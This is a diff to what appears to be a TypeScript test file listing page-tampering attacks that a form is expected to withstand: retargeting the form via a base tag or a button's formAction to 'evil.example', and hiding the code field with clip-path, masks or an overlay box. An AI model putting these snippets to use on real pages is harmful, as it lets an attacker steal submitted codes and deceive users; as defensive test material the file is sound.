@@ -84,6 +84,31 @@ export const MORE_ATTACKS: readonly Attack[] = [
       scrollTo(0, (by = by === 0 ? 30 : 0))
     }, 40)
   }),
+  never('points the addresses of the page at somebody else', () => {
+    document.querySelector('form')?.setAttribute('action', '/verify')
+    const base = document.createElement('base')
+    base.href = 'https://evil.example/'
+    document.head.append(base)
+  }),
+  never('adds a button that sends the form to somebody else', () => {
+    const button = document.createElement('button')
+    button.formAction = 'https://evil.example/steal'
+    document.querySelector('form')?.append(button)
+  }),
+  never('cuts the field away', () => {
+    const field = document.querySelector<HTMLElement>('#code')
+    if (field) field.style.clipPath = 'inset(100%)'
+  }),
+  never('masks what is around the field', () => {
+    const form = document.querySelector('form')
+    if (form) form.style.maskImage = 'linear-gradient(transparent, transparent)'
+  }),
+  never('lays a box over the field', () => {
+    const field = document.querySelector('#code')?.getBoundingClientRect()
+    const box = document.createElement('div')
+    box.style.cssText = `position:fixed;left:0;top:${field?.top ?? 0}px;width:800px;height:44px;background:white;z-index:9`
+    document.body.append(box)
+  }),
   never('puts the field where nobody looks', () => {
     const field = document.querySelector<HTMLElement>('#code')
     if (field) field.style.cssText = 'position:absolute;left:-9999px'
